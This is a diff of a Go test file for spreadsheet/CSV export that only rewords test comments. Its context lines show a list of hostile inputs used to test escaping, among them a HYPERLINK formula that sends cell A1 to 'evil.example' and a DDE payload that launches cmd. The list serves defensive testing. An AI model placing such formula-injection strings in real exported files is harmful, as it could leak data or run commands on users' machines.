@@ -191,7 +191,7 @@ func TestOneColumnAField(t *testing.T) {
 	}
 }
 
-// TestOldVersions: columns are the union, and answers are read as they were meant.
+// TestOldVersions checks that the columns are the union of all versions, and that answers are read by their own version.
 func TestOldVersions(t *testing.T) {
 	now, old := parse(t, today), parse(t, before)
 	entries := []entry{
@@ -258,7 +258,7 @@ func TestPrivate(t *testing.T) {
 	}
 }
 
-// hostile are texts typed by attackers.
+// hostile lists texts that an attacker may type.
 var hostile = []string{
 	"=1+1", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'quoted'",
 	"＝1+1", "－很好", "-5", "+8613800138000", "-12.75", "1e5", "00123", "a,b;c\td", `"quoted"`, "line\nbreak", "line\r\nbreak", " =1", "_x000D_ _x0041_", "<b>&amp;</b>",
@@ -309,7 +309,7 @@ func TestHostileTextsInCSV(t *testing.T) {
 	}
 }
 
-// TestEscapingIsReversible: removing the apostrophe restores the text, and no two texts become one.
+// TestEscapingIsReversible checks that removing the apostrophe restores the text, so that different texts stay different.
 func TestEscapingIsReversible(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		text := rapid.OneOf(rapid.StringMatching(`[-=+@'0-9.\t]{0,6}`), rapid.String()).Draw(t, "text")
